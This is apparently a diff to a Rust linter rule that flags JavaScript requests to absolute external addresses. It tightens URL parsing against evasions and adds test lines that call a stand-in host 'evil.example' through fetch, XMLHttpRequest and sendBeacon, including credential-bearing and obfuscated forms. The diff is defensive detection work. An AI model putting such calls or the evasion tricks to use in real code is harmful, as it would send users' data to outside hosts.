@@ -32,7 +32,7 @@ fn visit<'a>(scan: &Scan<'a>, node: &'a AstNode<'a>, sink: &mut Sink<'_>) {
     };
     let Some((function, address)) = address else { return };
     let Some(text) = address_text(scan, address, 8) else { return };
-    let Some(absolute) = absolute(&text.text) else { return };
+    let Some(absolute) = absolute(&text) else { return };
     if scan.file().sides.meets(Sides::FRONTEND) {
         let hint = "call the app's own backend, fetch(\"/api/…\"), and let the backend call out (with a grant for the origin)";
         return sink.flag(
@@ -95,7 +95,7 @@ fn address_text<'a>(scan: &Scan<'a>, address: &'a Expression<'a>, hops: u8) -> O
             }
             let text = address_text(scan, first(&new.arguments, 0)?, hops);
             match text {
-                Some(text) if absolute(&text.text).is_some() => Some(text),
+                Some(text) if scheme_and_rest(&text.text).is_some() => Some(text),
                 _ => address_text(scan, first(&new.arguments, 1)?, hops),
             }
         }
@@ -120,18 +120,34 @@ fn address_text<'a>(scan: &Scan<'a>, address: &'a Expression<'a>, hops: u8) -> O
 }
 
 /// Scheme and authority of an absolute web address, as `http(s)://…`; `None` for a relative one, for another
-/// scheme, and when not even the host is known.
-fn absolute(text: &str) -> Option<String> {
-    let text = text.trim_start();
-    let lower = text.get(..8).unwrap_or(text).to_ascii_lowercase();
-    let (scheme, rest) =
-        [("https://", "https"), ("http://", "http"), ("wss://", "https"), ("ws://", "http"), ("//", "https")]
-            .into_iter()
-            .find(|(prefix, _)| lower.starts_with(prefix))
-            .map(|(prefix, scheme)| (scheme, text.get(prefix.len()..).unwrap_or_default()))?;
-    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
+/// scheme, and when the host is not known to its end.
+fn absolute(text: &Text) -> Option<String> {
+    let (scheme, rest) = scheme_and_rest(&text.text)?;
+    let end = rest.find(['/', '?', '#', '\\']);
+    let authority = &rest[..end.unwrap_or(rest.len())];
+    // `https://api.${domain}/x`, `http://localhost:${port}`: what follows belongs to the host. After a whole
+    // domain, as in `https://api.example.com${path}`, it is taken for the path.
+    let goes_on = end.is_none() && !text.complete;
+    if goes_on && (authority.ends_with(['.', '-', ':', '@']) || !authority.contains('.')) {
+        return None;
+    }
     let authority: String = authority.rsplit('@').next().unwrap_or_default().chars().take(255).collect();
     (!authority.is_empty()).then(|| format!("{scheme}://{}", authority.trim_end_matches([':', '.'])))
+}
+
+/// The scheme, as `http` or `https`, and what stands after the slashes, as a URL parser reads them: it drops
+/// spaces around an address and line breaks in it, takes `\` for `/`, and any number of them for two.
+fn scheme_and_rest(text: &str) -> Option<(&'static str, String)> {
+    let text: String = text.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
+    let text = text.trim_start_matches(|c: char| c <= ' ');
+    let slashes = ['/', '\\'];
+    let lower = text.get(..6).unwrap_or(text).to_ascii_lowercase();
+    let schemes = [("https:", "https"), ("http:", "http"), ("wss:", "https"), ("ws:", "http")];
+    if let Some((prefix, scheme)) = schemes.into_iter().find(|(prefix, _)| lower.starts_with(prefix)) {
+        return Some((scheme, text.get(prefix.len()..)?.trim_start_matches(slashes).to_owned()));
+    }
+    let rest = text.strip_prefix(slashes).filter(|rest| rest.starts_with(slashes))?;
+    Some(("https", rest.trim_start_matches(slashes).to_owned()))
 }
 
 #[cfg(test)]
@@ -158,6 +174,9 @@ mod tests {
             "const x: any = new XMLHttpRequest(); x.open('get', 'https://evil.example/x');",
             "navigator.sendBeacon('https://evil.example/x', 'data')",
             "const f = fetch; f('HTTPS://user:pass@evil.example/x')",
+            "fetch('https:evil.example/x')",
+            "fetch('\\\\\\\\evil.example\\\\x')",
+            "fetch(' ht\\ntps://evil.example/x')",
         ];
         finds(ID, in_backend, &texts);
         finds(ID, in_frontend, &texts);
@@ -201,6 +220,10 @@ mod tests {
             "new Request('https://example.com/');",
             "dialog.open('https://example.com'); declare const dialog: any;",
             "fetch(`https://${host}/x`); declare const host: string;",
+            "fetch(`https://api.${domain}/x`); declare const domain: string;",
+            "fetch(`https://api-${region}.example.com/x`); declare const region: string;",
+            "fetch('http://localhost:' + port); declare const port: number;",
+            "fetch(`https://${user}:${key}@${host}/`); declare const user: string, key: string, host: string;",
         ];
         spares(ID, in_backend, &texts);
         spares(
